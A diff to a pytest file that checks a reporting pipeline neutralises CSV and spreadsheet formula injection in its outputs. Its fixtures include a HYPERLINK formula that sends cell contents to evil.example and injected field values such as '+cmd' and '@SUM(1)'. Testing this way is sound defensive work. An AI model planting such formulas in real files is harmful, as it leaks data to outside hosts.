@@ -8,7 +8,10 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import json
+import re
 import shutil
+from pathlib import Path
 
 import openpyxl
 import pytest
@@ -16,11 +19,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from tests.conftest import GOLDEN
+from vcc.flows.config import load_config
 from vcc.flows.qaf.form import FormCase, read_form, write_form
 from vcc.transforms.cell_text import neutralise, recover
 from vcc.transforms.qaf import THEMES
 from vcc.transforms.quarters import Quarter
 
+REPO = Path(__file__).resolve().parents[2]
 ACTIVE = ("=", "+", "-", "@", "\t", "\r")
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -41,20 +46,20 @@ LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
         ("", ""),
     ],
 )
-def test_active_text_is_prefixed_with_a_quote(text, written):
+def test_active_text_is_prefixed_with_a_quote(text, written) -> None:
     assert neutralise(text) == written
     assert recover(written) == text
 
 
 @given(st.text())
-def test_the_original_is_always_recoverable_and_never_active(text):
+def test_the_original_is_always_recoverable_and_never_active(text) -> None:
     written = neutralise(text)
     assert recover(written) == text
     if written.startswith(ACTIVE):
         float(written)  # only a number may begin so
 
 
-def test_the_review_form_holds_no_live_formula_and_reads_back_the_originals(tmp_path):
+def test_the_review_form_holds_no_live_formula_and_reads_back_the_originals(tmp_path: Path) -> None:
     path = tmp_path / "form.xlsx"
     case = FormCase(1, LINK, "@CR1", "police", "=route", False)
     write_form(path, [case], [("Sample", "S1"), ("Area", "=1+1")], "=MARKING")
@@ -78,18 +83,24 @@ def _rows(path):
 
 
 @pytest.mark.flow
-def test_no_file_of_a_run_holds_a_live_formula(prefect_harness, tmp_path):
+def test_no_file_of_a_run_holds_a_live_formula(prefect_harness, tmp_path: Path) -> None:
     from vcc.flows.run.flow import run_quarter
 
     data = tmp_path / "data"
     shutil.copytree(GOLDEN / "data", data)
     with (data / "police" / "referrals.csv").open("a", newline="", encoding="utf-8") as handle:
         csv.writer(handle, lineterminator="\n").writerow([LINK, "2024-05-01T10:00:00", "@SUM(1)"])
+    # A district named as a formula reaches metrics.csv, changes.csv and every breakdown.
+    crimes = data / "police" / "crimes.csv"
+    quoted = '"' + LINK.replace('"', '""') + '"'
+    crimes.write_text(crimes.read_text().replace(",Eden\n", f",{quoted}\n"), encoding="utf-8")
+    districts = [LINK if name == "Eden" else name for name in load_config().districts]
     config = data / "vcc.toml"
     config.write_text(
-        config.read_text() + '\n[report]\narea = "=1+2"\ntitle = "+cmd"\nproduced_by = "-2+3"\n',
+        f"districts = {json.dumps(districts)}\n" + config.read_text()
+        + '\n[report]\narea = "=1+2"\ntitle = "+cmd"\nproduced_by = "-2+3"\n',
         encoding="utf-8",
-    )
+    )  # fmt: skip
 
     run_quarter(Quarter.parse("2024Q2"), dt.date(2024, 7, 12), config, tmp_path / "out")
 
@@ -97,9 +108,15 @@ def test_no_file_of_a_run_holds_a_live_formula(prefect_harness, tmp_path):
     quarantine = _rows(out / "quarantine" / "police.referrals.csv")
     assert quarantine[1][:3] == ["'" + LINK, "2024-05-01T10:00:00", "'@SUM(1)"]
     assert recover(quarantine[1][0]) == LINK
-    for name in ("metrics.csv", "published-tables.csv", "data-quality.csv"):
+    written = sorted(path.relative_to(out).as_posix() for path in out.rglob("*.csv"))
+    assert {"metrics.csv", "changes.csv", "published-tables.csv", "data-quality.csv"} <= set(
+        written
+    )
+    for name in written:  # every CSV, whatever new ones a later change adds
         active = [cell for row in _rows(out / name) for cell in row if cell.startswith(ACTIVE)]
         assert all(_is_number(cell) for cell in active), (name, active)
+    changes = [row for row in _rows(out / "changes.csv") if "'" + LINK in row]
+    assert changes, "the district's rows of changes.csv"
     workbook = openpyxl.load_workbook(out / "published-tables.xlsx")
     cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
     assert not [(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"]
@@ -114,3 +131,30 @@ def _is_number(text: str) -> bool:
     except ValueError:
         return False
     return True
+
+
+def test_nothing_but_the_one_writer_writes_a_csv_for_people():
+    # cell_text.csv_for_people neutralises (people_files and the release call it); a new file
+    # written any other way could forget to.
+    # (The synthetic sources stand for the agencies' own files, which vcc does not write for
+    # people.)
+    writers = {
+        path.relative_to(REPO).as_posix()
+        for path in (REPO / "vcc").rglob("*.py")
+        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", path.read_text())
+    }
+    assert writers == {"vcc/transforms/cell_text.py", "vcc/flows/synthetic/writers.py"}
+
+
+def test_the_one_writer_neutralises_changes_like_tables(tmp_path):
+    import pandas as pd
+
+    from vcc.flows.run.people_files import write_csv
+
+    frame = pd.DataFrame({"dimension": ["district"], "group": [LINK], "change": [-0.05]})
+
+    write_csv(frame, tmp_path / "changes.csv")
+
+    assert _rows(tmp_path / "changes.csv") == [
+        ["dimension", "group", "change"], ["district", "'" + LINK, "-0.05"]
+    ]  # fmt: skip
